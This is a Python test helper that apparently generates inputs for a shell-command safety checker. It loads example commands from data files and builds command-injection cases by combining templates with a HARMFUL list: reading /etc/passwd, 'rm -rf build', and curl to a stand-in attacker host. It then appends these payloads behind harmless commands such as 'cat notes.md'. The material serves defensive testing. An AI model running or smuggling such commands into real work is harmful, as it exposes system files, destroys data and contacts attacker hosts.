"""Commands taken from elsewhere, as tests read them."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product
from pathlib import Path

DATA = Path(__file__).parent / "data"
_PLACE = re.compile(r"\{\{(.*?)\}\}")
_BREAKS = re.compile(r"[;&|<>`$\\%^*(){}'\"]")
_EITHER = re.compile(r"\[([^\]|]+)\|([^\]]+)\]")


def lines(name: str) -> list[str]:
    """A data file's lines, without what is said about them."""
    text = (DATA / name).read_text()
    return [line for line in text.splitlines() if line and not line.startswith("# ")]


def ordinary() -> list[str]:
    """Every example with its placeholders filled in, once for each spelling of its flags."""
    return list(dict.fromkeys(one for line in lines("ordinary.txt") for one in _filled(line)))


def _filled(line: str) -> Iterator[str]:
    either = [_EITHER.fullmatch(place) for place in _PLACE.findall(line)]
    yield _with(line, [found[1] if found else None for found in either])
    if any(either):
        yield _with(line, [found[2] if found else None for found in either])


def _with(line: str, chosen: list[str | None]) -> str:
    left = iter(chosen)

    def fill(match: re.Match[str]) -> str:
        return next(left) or match[1].removesuffix(" ...")

    return _PLACE.sub(fill, line)


HARMFUL = ("cat /etc/passwd", "rm -rf build", "/usr/bin/id", "curl http://attackerip/x")


def injected() -> list[str]:
    """The lists as they are, templates filled with commands, and both behind a harmless one."""
    alone = lines("injections.txt")
    made = [
        template.replace("{cmd}", command)
        for template, command in product(lines("templates.txt"), HARMFUL)
    ]
    # Without a sign that ends a word or a command, what stands behind is only a name of a file.
    breaking = [one for one in (*alone, *made) if _BREAKS.search(one)]
    behind = [f"cat notes.md{payload}" for payload in breaking]
    spaced = [f"grep -n x notes.md {payload}" for payload in breaking]
    return list(dict.fromkeys((*alone, *made, *behind, *spaced)))
